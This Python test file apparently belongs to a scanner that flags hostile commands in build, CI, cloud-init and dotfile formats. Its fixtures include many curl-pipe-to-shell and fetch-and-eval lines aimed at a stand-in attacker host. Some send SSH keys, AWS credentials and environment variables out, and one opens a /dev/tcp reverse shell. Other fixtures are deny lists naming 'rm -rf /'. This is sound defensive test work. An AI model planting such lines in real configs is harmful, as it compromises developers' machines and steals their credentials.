"""Pipelines, builds and cloud settings: scripts are judged wherever they stand, data and rules about them are not."""

# ruff: noqa: E501 - attacks stand as they are written
from __future__ import annotations

import io

import pytest

from assay.core.finding import Severity
from assay.formats.reading import Limits
from assay.formats.texts.read import read

E = "https://c.evil.example"
P = f'x=$(curl -s {E}/x)\n{{i}}eval "$x"\n'


def p(i: int) -> str:
    return P.replace("{i}", " " * i)


BAD = [
    ("user-data", f"#cloud-config\nruncmd:\n  - [sh, -c, 'curl -s {E}/x | sh']\n"),
    ("cloud.yaml", f'#cloud-config\nbootcmd:\n - x=$(wget -qO- {E}); eval "$x"\n'),
    (
        "cloud.yaml",
        f"#cloud-config\nwrite_files:\n - path: /etc/cron.d/x\n   content: |\n     * * * * * root curl -s {E}/x | sh\n",
    ),
    ("Earthfile", f"VERSION 0.8\nFROM alpine:3.19\nbuild:\n    RUN --no-cache curl -s {E}/x | sh\n"),
    ("Tiltfile", f"local('curl -s {E}/x | sh')\n"),
    ("Tiltfile", f"local_resource('x', serve_cmd='curl -s {E}/x | sh')\n"),
    ("a.wdl", f"task t {{\n  command <<<\n    set -e\n    {p(4)}  >>>\n}}\n"),
    ("main.nf", f'process A {{\n  script:\n  """\n  {p(2)}  """\n}}\n'),
    ("Snakefile", f'rule a:\n    output: \'x\'\n    shell:\n        """\n        {p(8)}        """\n'),
    ("tool.cwl", f"cwlVersion: v1.2\nbaseCommand: [bash, -c, 'curl -s {E}/x | sh']\n"),
    ("gen.go", f'package x\n//go:generate sh -c "curl -s {E}/x | sh"\n'),
    ("Taskfile.yml", f"version: '3'\ntasks:\n  a:\n    cmds:\n      - curl -s {E}/x | sh\n"),
    ("justfile", f"default:\n  curl -s {E}/x | sh\n"),
    (
        "docker-compose.yml",
        f"services:\n a:\n  image: x\n  healthcheck:\n   test: ['CMD-SHELL','curl -s {E}/x | sh']\n",
    ),
    (
        "pod.yaml",
        f"apiVersion: v1\nkind: Pod\nspec:\n containers:\n - name: a\n   lifecycle:\n    postStart:\n     exec:\n      command: ['/bin/sh','-c','tar c ~/.ssh | curl -T - {E}']\n",
    ),
    ("cm.yaml", f"apiVersion: v1\nkind: ConfigMap\ndata:\n  start.sh: |\n    set -e\n    {p(4)}"),
    ("play.yml", f"- hosts: all\n  tasks:\n  - ansible.builtin.shell: curl -s {E}/x | sh\n"),
    ("vars.yml", f"x: \"{{{{ lookup('pipe', 'curl -s {E}/x | sh') }}}}\"\n"),
    (
        "main.tf",
        f'resource "null_resource" "x" {{\n provisioner "local-exec" {{\n  command = <<EOT\n{p(0)}EOT\n }}\n}}\n',
    ),
    (".travis.yml", f"after_success:\n - env | curl -d @- {E}\n"),
    ("azure-pipelines.yml", f"steps:\n- bash: |\n    {p(4)}"),
    (
        ".circleci/config.yml",
        f"jobs:\n b:\n  steps:\n  - run:\n      command: |\n        K=$(cat ~/.ssh/id_rsa)\n        curl {E}/?k=$K\n",
    ),
    (
        ".pre-commit-config.yaml",
        f"repos:\n- repo: local\n  hooks:\n  - id: a\n    language: system\n    entry: bash -c 'curl -s {E}/x | sh'\n",
    ),
    (
        "argo.yaml",
        f"kind: Workflow\nspec:\n templates:\n - name: a\n   script:\n    image: x\n    source: |\n      {p(6)}",
    ),
    ("custom.yaml", f"zork:\n  frob: |\n    set -e\n    {p(4)}"),
    ("custom.toml", f"[zork]\nfrob='curl -s {E}/x | sh'\n"),
    ("Cargo/build.rs", f'fn main(){{ Command::new("sh").arg("-c").arg("curl -s {E}/x | sh").spawn(); }}'),
    ("package.json", '{"scripts":{"postinstall":"x=$(curl -s ' + E + '); eval \\"$x\\""}}'),
    ("Jenkinsfile", f"pipeline {{ stages {{ stage('a') {{ steps {{ sh '''\n{p(0)}''' }} }} }} }}"),
]
GOOD = [
    (
        "user-data",
        "#cloud-config\npackages: [git]\nruncmd:\n  - [systemctl, enable, nginx]\n  - curl -fsSL https://get.docker.com | sh\n",
    ),
    (
        "Earthfile",
        "VERSION 0.8\nFROM python:3.11.4\nbuild:\n  RUN pip install -r requirements.txt\n  SAVE ARTIFACT dist\n",
    ),
    ("Tiltfile", "docker_build('a','.')\nlocal_resource('t', cmd='make test')\nk8s_yaml('k.yaml')\n"),
    ("a.wdl", "task t {\n command <<<\n  set -e\n  samtools sort x.bam | bgzip > y\n >>>\n}\n"),
    (
        "main.nf",
        'process A {\n script:\n """\n curl -L https://ftp.ncbi.nlm.nih.gov/x.gz | gunzip > x.fa\n bwa index x.fa\n """\n}\n',
    ),
    ("gen.go", "package x\n//go:generate stringer -type=Pill\n//go:generate protoc --go_out=. a.proto\n"),
    (
        "play.yml",
        "- hosts: all\n  tasks:\n  - shell: echo hi\n  - get_url: {url: 'https://x.example.com/a.tgz', dest: /opt}\n",
    ),
    (
        "rules.yaml",
        "rules:\n - id: curl-pipe\n   pattern: 'curl http://x | sh'\n   message: do not run curl http://x | sh\n",
    ),
    ("deny.yaml", "guard:\n  denied_commands:\n   - rm -rf /\n   - curl http://x | bash\n"),
    ("docs.json", '{"description":"run curl http://x | sh to break it","examples":["curl http://x | bash"]}'),
    ("data.json", '[{"nl":"delete all","gold":"rm -rf /"},{"nl":"x","gold":"curl http://x.example | sh"}]'),
    (
        "pod.yaml",
        "kind: Pod\nspec:\n containers:\n - name: a\n   command: ['/bin/sh','-c','until nslookup db; do sleep 2; done; curl -s http://localhost/health']\n",
    ),
    (
        ".gitlab-ci.yml",
        'build:\n script:\n  - curl --header "JOB-TOKEN: $CI_JOB_TOKEN" --upload-file a.whl https://gitlab.example.com/api/v4/x\n  - echo "$KEY" | base64 -d > ~/.ssh/id_rsa\n  - chmod 600 ~/.ssh/id_rsa\n',
    ),
    (
        "main.tf",
        'resource "null_resource" "x" {\n provisioner "local-exec" {\n  command = <<EOT\nkubectl apply -f k8s\nEOT\n }\n}\n',
    ),
    ("package.json", '{"scripts":{"build":"tsc","postinstall":"node-gyp rebuild","test":"jest"}}'),
    ("conf.yaml", "text: |\n  To install, run:\n  curl http://x.example.com/i.sh | sh\n"),
    (
        "kfp.yaml",
        'deploymentSpec:\n executors:\n  e:\n   container:\n    command: [sh, -c, \'program_path=$(mktemp -d)\n\n     printf "%s" "$0" > "$program_path/ephemeral_component.py"\n\n     python3 -m kfp.x --component_module_path "$program_path/ephemeral_component.py"\']\n',
    ),
]
MORE = [
    (".gdbinit", f"define hook-run\n  shell (cat ~/.aws/credentials; env) | base64 | xargs -I@ curl {E}/@\nend\n"),
    (".gdbinit", "source ~/.x\npi __import__('subprocess').Popen(['bash','-c','id'])\n"),
    (".vimrc", f"let x = system('cat ~/.netrc')\ncall system('curl -d ' . shellescape(x) . ' {E}')\n"),
    (".vimrc", f"python3 << EOF\nimport urllib.request as u\nexec(u.urlopen('{E}').read())\nEOF\n"),
    ("init.lua", f"vim.fn.jobstart({{'sh','-c','wget -qO- {E}/x|sh'}})\n"),
    ("init.lua", f"load(io.popen('curl -s {E}/x.lua'):read('*a'))()\n"),
    (
        ".emacs.d/init.el",
        f'(eval (read (with-current-buffer (url-retrieve-synchronously "{E}/x.el") (buffer-string))))\n',
    ),
    (".tmux.conf", f"set-hook -g session-created 'run \"wget -qO- {E}/x | bash\"'\n"),
    ("Rprofile.site", f"eval(parse(text=readLines(url('{E}/x.R'))))\n"),
    (".pryrc", f"require 'open-uri'\ninstance_eval(URI.open('{E}/x.rb').read)\n"),
    (".iex.exs", f'System.cmd("sh", ["-c", "curl -s {E}/x | sh"])\n'),
    (".mysqlrc", f"pager sh -c 'tee >(curl -s -d @- {E}) | less; bash -i >& /dev/tcp/1.2.3.4/1'\n"),
    (".screenrc", f"exec sh -c 'curl -s {E}/x | sh'\n"),
    (".zshenv", f"p=$(wget -qO- {E}/x) && eval $p\n"),
    (".xinitrc", f"curl -so /tmp/a {E}/a; chmod 755 /tmp/a; /tmp/a &\n"),
    ("conftest.json", '{"hooks":{"x":"sh -c \\"$(curl -s ' + E + ')\\""}}'),
    (
        ".idea/workspace.xml",
        f'<project><component><option name="toolArguments"/><configuration><option name="PROGRAM_PARAMETERS" value=""/><option name="EXECUTE_SCRIPT_FILE" value="false"/><option name="SCRIPT_TEXT" value="wget -qO- {E}/x &#124; sh"/></configuration></component></project>',
    ),
    (
        "build.xml",
        f'<project><target name="x"><exec executable="sh"><arg line="-c \'curl -s {E}/x | sh\'"/></exec></target></project>',
    ),
    (
        "x.csproj",
        f'<Project><Target Name="B" BeforeTargets="Build"><Exec Command="curl -s {E}/x | sh"/></Target></Project>',
    ),
    (
        "jupyter_notebook_config.py",
        f"c = get_config()\nc.InteractiveShellApp.exec_lines.append('import os; os.system(\"curl {E}/x | sh\")')\n",
    ),
    ("noxfile.yaml", f"sessions:\n  lint:\n    steps:\n      - curl -s {E}/x > /tmp/x && . /tmp/x\n"),
    (
        ".github/workflows/x.yml",
        f"on: push\njobs:\n  a:\n    steps:\n    - run: |\n        curl -fsSL {E}/t -o /tmp/t\n        chmod +x /tmp/t\n        /tmp/t\n",
    ),
    ("helm/values.yaml", f"initScript: |\n  set -e\n  apk add curl\n  curl -s {E}/x > /tmp/x\n  sh /tmp/x\n"),
    (
        "user-data",
        f"#cloud-config\nwrite_files:\n- content: |\n    #!/bin/sh\n    curl -s {E}/x | sh\n  path: /usr/local/bin/a\nruncmd:\n- /usr/local/bin/a\n",
    ),
    ("nextflow.config", f"process.beforeScript = 'curl -s {E}/x | sh'\n"),
    ("rules.smk", f"rule a:\n    shell: 'curl -s {E}/x | sh'\n"),
    ("BUILD.bazel", f"genrule(name='a', outs=['b'], cmd='curl -s {E}/x | sh')\n"),
    ("meson.build", f"run_command('sh', '-c', 'curl -s {E}/x | sh')\n"),
    ("flake.nix", f"{{ shellHook = ''\n  curl -s {E}/x | sh\n''; }}"),
    ("shell.nix", f'mkShell {{ shellHook = "curl -s {E}/x | sh"; }}'),
    ("build.gradle", f"task a {{ exec {{ commandLine 'sh','-c','curl -s {E}/x | sh' }} }}"),
    ("extconf.rb", f"system('curl -s {E}/x | sh')\n"),
    ("build.zig", f'_ = b.addSystemCommand(&.{{"sh","-c","curl -s {E}/x | sh"}});'),
    ("dune", f'(rule (action (system "curl -s {E}/x | sh")))'),
    ("setup.js", f"require('child_process').execSync('curl -s {E}/x | sh')"),
    ("Package.swift", f'let p = Process(); p.arguments = ["-c", "curl -s {E}/x | sh"]; try p.run()'),
    ("pixi.toml", f"[activation]\nscripts=['a.sh']\n[tasks]\nstart = {{cmd=\"curl -s {E}/x | sh\"}}\n"),
    ("Vagrantfile", f"config.vm.provision 'shell', inline: <<-S\n x=$(curl -s {E}/x)\n eval \"$x\"\nS\n"),
    ("packer.pkr.hcl", f'provisioner "shell" {{\n inline = ["curl -s {E}/x | sh"]\n}}'),
    ("skaffold.yaml", f"build:\n artifacts:\n - custom:\n    buildCommand: curl -s {E}/x | sh\n"),
    ("Pulumi.yaml", f"resources:\n x:\n  type: command:local:Command\n  properties:\n   create: curl -s {E}/x | sh\n"),
    ("appveyor.yml", f"init:\n- ps: iex (iwr {E}/x)\n"),
    (
        "bitbucket-pipelines.yml",
        f"pipelines:\n default:\n - step:\n    script:\n    - export A=$(cat ~/.ssh/id_rsa | base64)\n    - curl {E}/$A\n",
    ),
    ("dvc.yaml", "stages:\n a:\n  cmd: cat ~/.aws/credentials | nc q.evil.example 9\n"),
    ("zuul.yaml", f"- hosts: all\n  tasks:\n  - shell:\n      cmd: curl -s {E}/x | sh\n"),
]
BAD = BAD + MORE


def worst(name: str, text: str) -> tuple[list[str], tuple[str, ...]]:
    said = read(io.BytesIO(text.encode()), name, Limits())
    return [n.message for n in said.notes if n.severity.rank >= Severity.MEDIUM.rank], said.gaps


@pytest.mark.parametrize(("name", "text"), BAD)
def test_what_is_run_is_told(name: str, text: str) -> None:
    assert worst(name, text)[0]


@pytest.mark.parametrize(("name", "text"), GOOD)
def test_the_ordinary_is_silent(name: str, text: str) -> None:
    assert worst(name, text) == ([], ())


@pytest.mark.parametrize(("name", "text"), BAD[::3])
def test_what_is_torn_never_raises(name: str, text: str) -> None:
    for cut in (1, len(text) // 3, len(text) * 2 // 3):
        assert all(isinstance(message, str) for message in worst(name, text[:cut])[0])
